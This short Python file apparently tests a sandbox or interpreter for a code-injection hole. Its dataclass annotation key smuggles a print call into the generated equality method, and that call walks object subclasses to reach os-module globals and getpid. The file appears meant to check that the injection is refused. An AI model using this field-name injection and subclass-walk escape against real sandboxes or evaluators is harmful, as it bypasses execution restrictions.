# eval: dataclass field-name injection in the program's own globals, payload walks subclasses
import dataclasses
@dataclasses.dataclass(init=False, repr=False, eq=True)
class C:
    __annotations__ = {"__doc__,print('PWN' + 'ED', [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['getpid']()),self.__doc__": int}
try:
    C() == C()
except Exception as e:
    print("refused:", type(e).__name__, e)
